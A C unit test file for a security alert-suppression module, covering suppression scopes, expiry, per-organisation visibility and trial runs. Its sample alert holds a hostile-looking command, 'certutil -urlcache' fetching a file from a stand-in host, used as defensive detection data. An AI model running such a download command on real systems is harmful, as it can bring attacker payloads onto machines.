/* test_suppress.c: what is suppressed, from when to when, and who sees what it hid. */
#include "base/timestamp.h"
#include "kit/kit.h"
#include "triage/suppress.h"
#include "triage/suppress_trial.h"

#include <stdio.h>

#define DAY   (86400 * CORD_SECOND_NS)
#define START (1494547200 * CORD_SECOND_NS) /* 12 May 2017 */

#define TESTED                                                                                     \
    "\"tested\":\"2017-05-12T00:00:00Z\",\"days\":7,\"findings\":9,\"hidden\":4,\"hidden_at\":2"
#define EXPIRES "\"reason\":\"scanner\",\"expires\":\"2017-05-20T00:00:00Z\","

struct desk {
    struct cord_suppress *suppress;
    uint64_t claim, finding;
};

static void open_desk(struct desk *desk)
{
    const struct cord_suppress_options options = {.suppressions_max = 8, .hits_max = 8, .seed = 1};
    *desk = (struct desk){cord_suppress_new(&options), 0, 0};
    CHECK(desk->suppress);
}

static void say(struct desk *desk, const char *kind, const char *value, int64_t day)
{
    const struct cord_claim claim = {
        .number = ++desk->claim,
        .kind = cord_claim_kind_find(cord_str_from(kind)),
        .subject = CORD_STR("rule:R-1"),
        .value = cord_str_from(value),
        .recorded_ns = START + day * DAY,
        .claimant = CORD_STR("user:7"),
    };
    CHECK(claim.kind);
    CHECK(cord_suppress_claim(desk->suppress, &claim) == CORD_OK);
}

#define TEXT(literal)                                                                              \
    {                                                                                              \
        (literal), sizeof(literal) - 1                                                             \
    }

static const struct cord_sighting_field fields[] = {
    {TEXT("src_ip"), TEXT("10.0.0.9")},
    {TEXT("CommandLine"), TEXT("certutil -urlcache http://update.example/x")}};

static struct cord_sighting sighting(const char *organisation, const char *host, int64_t day)
{
    static const cord_str tags[] = {TEXT("attack.t1105")};
    return (struct cord_sighting){.known_ns = START + day * DAY,
                                  .time_ns = START + day * DAY,
                                  .organisation = cord_str_from(organisation),
                                  .rule = CORD_STR("R-1"),
                                  .title = CORD_STR("Certutil fetches"),
                                  .level = CORD_LEVEL_HIGH,
                                  .tags = tags,
                                  .tag_count = 1,
                                  .host = cord_str_from(host),
                                  .user = CORD_STR("RXA\\ana"),
                                  .fields = fields,
                                  .field_count = 2};
}

/* The name of the suppression that it falls under; "" none. */
static const char *feed(struct desk *desk, const char *organisation, const char *host, int64_t day,
                        struct cord_suppress_verdict *verdict)
{
    struct cord_sighting one = sighting(organisation, host, day);
    one.number = ++desk->finding;
    CHECK(cord_suppress_feed(desk->suppress, &one, verdict) == CORD_OK);
    CHECK(verdict->suppressed == (verdict->id[0] != '\0'));
    return verdict->id;
}

static void check_feed(struct desk *desk, const char *organisation, const char *host, int64_t day,
                       const char *wanted)
{
    struct cord_suppress_verdict verdict;
    CHECK_STR_EQ(cord_str_from(feed(desk, organisation, host, day, &verdict)),
                 cord_str_from(wanted));
}

static bool one_only(void *self, cord_str organisation)
{
    return cord_str_eq(organisation, cord_str_from(self));
}

static struct cord_suppress_answer *ask(struct desk *desk, int64_t at_day, const char *visible)
{
    struct cord_suppress_answer *answer = NULL;
    const struct cord_suppress_question question = {.at_ns = at_day < 0 ? CORD_TIME_NONE
                                                                        : START + at_day * DAY,
                                                    .now_ns = START + 5 * DAY,
                                                    .visible = visible ? one_only : NULL,
                                                    .self = (void *)(uintptr_t)visible};
    CHECK(cord_suppress_ask(desk->suppress, &question, &answer) == CORD_OK);
    return answer;
}

static void holds_from_its_recording_until_it_expires(void)
{
    struct desk desk;
    open_desk(&desk);
    say(&desk, "triage.suppress",
        "{\"suppression\":\"S1\",\"organisation\":\"RXA\"," EXPIRES TESTED "}", 1);
    check_feed(&desk, "RXA", "ws1", 0, "");
    check_feed(&desk, "RXA", "ws1", 1, "S1");
    check_feed(&desk, "RXB", "ws1", 2, "");
    check_feed(&desk, "RXA", "ws2", 7, "S1");
    check_feed(&desk, "RXA", "ws1", 8, ""); /* 20 May */
    struct cord_suppress_answer *answer = ask(&desk, -1, NULL);
    CHECK(cord_suppress_answer_count(answer) == 1);
    const struct cord_suppress_row *row = cord_suppress_answer_at(answer, 0);
    CHECK(row->state == CORD_SUPPRESS_FORCE && row->hidden == 2 && row->hit_count == 1);
    CHECK_STR(row->reason, "scanner");
    CHECK_STR(row->claimant, "user:7");
    CHECK(row->test_shown && row->days == 7 && row->tested_hidden == 4);
    CHECK_I64(row->last_ns, START + 7 * DAY);
    cord_suppress_answer_free(answer);
    answer = ask(&desk, 2, NULL); /* as known then */
    CHECK_U64(cord_suppress_answer_at(answer, 0)->hidden, 1);
    cord_suppress_answer_free(answer);
    answer = ask(&desk, 30, NULL);
    CHECK(cord_suppress_answer_at(answer, 0)->state == CORD_SUPPRESS_EXPIRED);
    cord_suppress_answer_free(answer);
    answer = ask(&desk, 0, NULL);
    CHECK(cord_suppress_answer_count(answer) == 0);
    cord_suppress_answer_free(answer);
    cord_suppress_free(desk.suppress);
}

static void is_void_without_scope_test_or_end(void)
{
    static const struct {
        const char *value;
        const char *why;
    } rows[] = {
        {"{\"suppression\":\"A\"," EXPIRES TESTED "}", "needed"},
        {"{\"suppression\":\"B\",\"host\":\"ws1\",\"reason\":\"x\"," TESTED "}", "until when"},
        {"{\"suppression\":\"C\",\"host\":\"ws1\",\"expires\":\"2018-06-01T00:00:00Z\"," TESTED "}",
         "longer than a year"},
        {"{\"suppression\":\"D\",\"host\":\"ws1\"," EXPIRES "\"days\":1}", "not tried"},
        {"{\"suppression\":\"E\",\"host\":\"ws1\"," EXPIRES
         "\"tested\":\"2017-05-01T00:00:00Z\",\"days\":7,\"findings\":9,\"hidden\":4}",
         "more than a day before"},
        {"{\"suppression\":\"F\",\"condition\":\"a:(\"," EXPIRES TESTED "}", "condition"},
        {"{\"suppression\":\"G\",\"condition\":\"a:1 | count\"," EXPIRES TESTED "}", "without '|'"},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct desk desk;
        open_desk(&desk);
        say(&desk, "triage.suppress", rows[i].value, 0);
        check_feed(&desk, "RXA", "ws1", 1, "");
        struct cord_suppress_answer *answer = ask(&desk, -1, NULL);
        CHECK(cord_suppress_answer_count(answer) == 1);
        const struct cord_suppress_row *row = cord_suppress_answer_at(answer, 0);
        CHECK_STR_EQ(cord_str_from(cord_suppress_state_name(row->state)), CORD_STR("void"));
        if (cord_str_find(row->why, cord_str_from(rows[i].why), 0) == SIZE_MAX) {
            print_error("%zu: %.*s\n", i, CORD_STR_ARG(row->why));
            fail();
        }
        cord_suppress_answer_free(answer);
        cord_suppress_free(desk.suppress);
    }
}

static void can_be_ended_and_replaced(void)
{
    struct desk desk;
    open_desk(&desk);
    say(&desk, "triage.suppress", "{\"suppression\":\"S1\",\"host\":\"WS1\"," EXPIRES TESTED "}",
        0);
    check_feed(&desk, "RXA", "ws1.rxa.example", 1, "S1");
    say(&desk, "triage.suppress", "{\"suppression\":\"S1\",\"host\":\"ws2\"," EXPIRES TESTED "}",
        1);
    check_feed(&desk, "RXA", "ws1", 2, "");
    check_feed(&desk, "RXA", "ws2", 2, "S1");
    say(&desk, "triage.suppress-end", "{\"suppression\":\"S1\",\"reason\":\"it was real\"}", 3);
    check_feed(&desk, "RXA", "ws2", 4, "");
    struct cord_suppress_answer *answer = ask(&desk, -1, NULL);
    CHECK(cord_suppress_answer_count(answer) == 2);
    const struct cord_suppress_row *row = cord_suppress_answer_at(answer, 0);
    CHECK(row->state == CORD_SUPPRESS_ENDED && row->end == 3);
    CHECK_STR(row->why, "it was real");
    CHECK_STR(row->ended_by, "user:7");
    CHECK_I64(cord_suppress_answer_at(answer, 1)->ended_ns, START + 1 * DAY);
    cord_suppress_answer_free(answer);
    answer = ask(&desk, 2, NULL); /* nobody had ended it yet */
    CHECK(cord_suppress_answer_at(answer, 0)->state == CORD_SUPPRESS_FORCE);
    CHECK_STR(cord_suppress_answer_at(answer, 0)->why, "");
    cord_suppress_answer_free(answer);
    cord_suppress_free(desk.suppress);
}

static void scopes_are_hosts_addresses_and_conditions(void)
{
    static const struct {
        const char *scope;
        bool holds;
    } rows[] = {
        {"\"host\":\"ws1\"", true},
        {"\"host\":\"ws1.other.example\"", false},
        {"\"host\":\"ws1.rxa.example\"", true},
        {"\"host\":\"ws10\"", false},
        {"\"host\":\"10.0.0.9\"", true},
        {"\"host\":\"::ffff:10.0.0.9\"", true},
        {"\"host\":\"10.0.0.90\"", false},
        {"\"condition\":\"CommandLine:*update.example*\"", true},
        {"\"condition\":\"CommandLine:*update.example* AND NOT user:*ana\"", false},
        {"\"condition\":\"src_ip:10.0.0.0/8 AND host:ws1*\"", true},
        {"\"condition\":\"org:RXA AND title:certutil*\"", true},
        {"\"condition\":\"tag:attack.t1105 AND level:high\"", true},
        {"\"condition\":\"urlcache\"", true},
        {"\"condition\":\"CommandLine:/x$/\"", true},
        {"\"organisation\":\"RXA\",\"condition\":\"urlcache\"", true},
        {"\"organisation\":\"RXB\",\"condition\":\"urlcache\"", false},
        {"\"host\":\"ws1\",\"condition\":\"nothing\"", false},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct desk desk;
        char value[512];
        struct cord_suppress_verdict verdict;
        open_desk(&desk);
        (void)snprintf(value, sizeof value, "{\"suppression\":\"S\",%s," EXPIRES TESTED "}",
                       rows[i].scope);
        say(&desk, "triage.suppress", value, 0);
        (void)feed(&desk, "RXA", "ws1.rxa.example", 1, &verdict);
        if (verdict.suppressed != rows[i].holds) {
            print_error("%s\n", rows[i].scope);
            fail();
        }
        cord_suppress_free(desk.suppress);
    }
}

static void what_others_had_hidden_is_not_told(void)
{
    struct desk desk;
    open_desk(&desk);
    say(&desk, "triage.suppress",
        "{\"suppression\":\"S1\",\"condition\":\"urlcache\"," EXPIRES TESTED "}", 0);
    say(&desk, "triage.suppress",
        "{\"suppression\":\"S2\",\"organisation\":\"RXA\"," EXPIRES TESTED "}", 0);
    check_feed(&desk, "RXA", "ws1", 1, "S1");
    check_feed(&desk, "RXB", "ws1", 1, "S1");
    check_feed(&desk, "RXB", "ws1", 2, "S1");
    struct cord_suppress_answer *answer = ask(&desk, -1, "RXB");
    CHECK(cord_suppress_answer_count(answer) == 1);
    const struct cord_suppress_row *row = cord_suppress_answer_at(answer, 0);
    CHECK_STR(row->id, "S1");
    CHECK(row->hidden == 2 && row->hit_count == 1 && !row->test_shown && row->tested_hidden == 0);
    CHECK(row->tested_ns != CORD_TIME_NONE && row->days == 7 && row->tested_organisations == 0);
    cord_suppress_answer_free(answer);
    answer = ask(&desk, -1, NULL);
    CHECK(cord_suppress_answer_count(answer) == 2);
    row = cord_suppress_answer_at(answer, 1);
    CHECK(row->hidden == 3 && row->hit_count == 2 && row->hits[0].count == 2);
    CHECK_STR(row->hits[0].organisation, "RXB");
    cord_suppress_answer_free(answer);
    cord_suppress_free(desk.suppress);
}

static void bounds_are_counted(void)
{
    struct desk desk;
    struct cord_suppress_stats stats;
    open_desk(&desk);
    for (int i = 0; i < 10; i++) {
        say(&desk, "triage.suppress", "{\"suppression\":\"S\",\"host\":\"ws1\"," EXPIRES TESTED "}",
            0);
    }
    for (int i = 0; i < 10; i++) {
        check_feed(&desk, "RXA", "ws1", 1, "S");
    }
    desk.finding--; /* judged twice, counted once */
    check_feed(&desk, "RXA", "ws1", 1, "S");
    cord_suppress_stats(desk.suppress, &stats);
    CHECK(stats.claims == 10 && stats.refused == 2 && stats.judged == 10 && stats.hidden == 10);
    CHECK_U64(stats.undated, 2);
    struct cord_suppress_answer *answer = ask(&desk, -1, NULL);
    CHECK_U64(cord_suppress_answer_at(answer, 0)->hidden, 10);
    cord_suppress_answer_free(answer);
    cord_suppress_free(desk.suppress);
}

/* --- trials --- */

static cord_status past_findings(void *self, const struct cord_suppress_span *span,
                                 cord_status (*each)(void *to,
                                                     const struct cord_sighting *sighting),
                                 void *to, struct cord_error *err)
{
    (void)err;
    const int64_t *days = self;
    CHECK_STR(span->rule, "R-1");
    CHECK_I64(span->to_ns - span->from_ns, *days * DAY);
    static const char *const organisations[] = {"RXA", "RXB", "RXB", "RXA", "RXB"};
    static const char *const hosts[] = {"ws1", "ws1", "ws1", "ws2", "ws1"};
    for (size_t i = 0; i < 5; i++) {
        struct cord_sighting one = sighting(organisations[i], hosts[i], 0);
        cord_status status = each(to, &one);
        if (status != CORD_OK) {
            return status;
        }
    }
    return CORD_OK;
}

static void a_trial_says_what_would_have_been_hidden(void)
{
    int64_t days = 7;
    const struct cord_suppress_past past = {past_findings, &days};
    const struct cord_suppress_text scope = {CORD_STR(""), CORD_STR("ws1"), CORD_STR("")};
    const struct cord_suppress_text none = {CORD_STR(""), CORD_STR(""), CORD_STR("")};
    struct cord_suppress_trial trial;
    struct cord_error err;
    struct cord_buf text;
    struct cord_arena *arena = cord_arena_new(1 << 16);
    CHECK(arena);
    CHECK(cord_suppress_trial_run(
              &(const struct cord_suppress_plan){scope, CORD_STR("R-1"), 7, START}, &past, arena,
              &trial, &err) == CORD_OK);
    CHECK(trial.findings == 5 && trial.hidden == 4 && trial.hidden_at == 2);
    CHECK_STR(trial.organisations[0].organisation, "RXB");
    cord_buf_init(&text, 1 << 16);
    cord_suppress_trial_write(&trial, &text);
    CHECK_STR(cord_buf_str(&text),
              ",\"tested\":\"2017-05-12T00:00:00.000Z\",\"days\":7,\"findings\":5,\"hidden\":4,"
              "\"hidden_at\":2,\"organisations\":[\"RXB\",\"RXA\"]");
    cord_buf_done(&text);
    CHECK(
        cord_suppress_trial_run(&(const struct cord_suppress_plan){none, CORD_STR("R-1"), 7, START},
                                &past, arena, &trial, &err) == CORD_E_FORMAT);
    CHECK(cord_suppress_trial_run(
              &(const struct cord_suppress_plan){scope, CORD_STR("R-1"), 0, START}, &past, arena,
              &trial, &err) == CORD_E_LIMIT);
    cord_arena_free(arena);
}

static void memory_that_runs_out_is_said(void)
{
    for (size_t nth = 1;; nth++) {
        const struct cord_suppress_options options = {
            .suppressions_max = 8, .hits_max = 8, .seed = 1};
        const struct cord_claim claim = {
            .number = 1,
            .kind = cord_claim_kind_find(CORD_STR("triage.suppress")),
            .subject = CORD_STR("rule:R-1"),
            .value =
                CORD_STR("{\"suppression\":\"S\",\"condition\":\"urlcache\"," EXPIRES TESTED "}"),
            .recorded_ns = START,
            .claimant = CORD_STR("user:7"),
        };
        const struct cord_suppress_question question = {.at_ns = CORD_TIME_NONE};
        struct cord_sighting one = sighting("RXA", "ws1", 1);
        struct cord_suppress_verdict verdict = {0};
        struct cord_suppress_answer *answer = NULL;
        one.number = 1;
        kit_fail_allocation(nth);
        struct cord_suppress *suppress = cord_suppress_new(&options);
        cord_status status = suppress ? CORD_OK : CORD_E_NOMEM;
        if (status == CORD_OK) {
            status = cord_suppress_claim(suppress, &claim);
        }
        if (status == CORD_OK) {
            status = cord_suppress_feed(suppress, &one, &verdict);
        }
        if (status == CORD_OK) {
            status = cord_suppress_ask(suppress, &question, &answer);
        }
        bool failed_one = kit_fail_allocation_off();
        CHECK(failed_one ? status == CORD_E_NOMEM && !answer
                         : status == CORD_OK && verdict.suppressed);
        cord_suppress_answer_free(answer);
        cord_suppress_free(suppress);
        if (!failed_one) {
            break;
        }
    }
}

KIT_MAIN(KIT_TEST(holds_from_its_recording_until_it_expires),
         KIT_TEST(is_void_without_scope_test_or_end), KIT_TEST(can_be_ended_and_replaced),
         KIT_TEST(scopes_are_hosts_addresses_and_conditions),
         KIT_TEST(what_others_had_hidden_is_not_told), KIT_TEST(bounds_are_counted),
         KIT_TEST(a_trial_says_what_would_have_been_hidden), KIT_TEST(memory_that_runs_out_is_said))
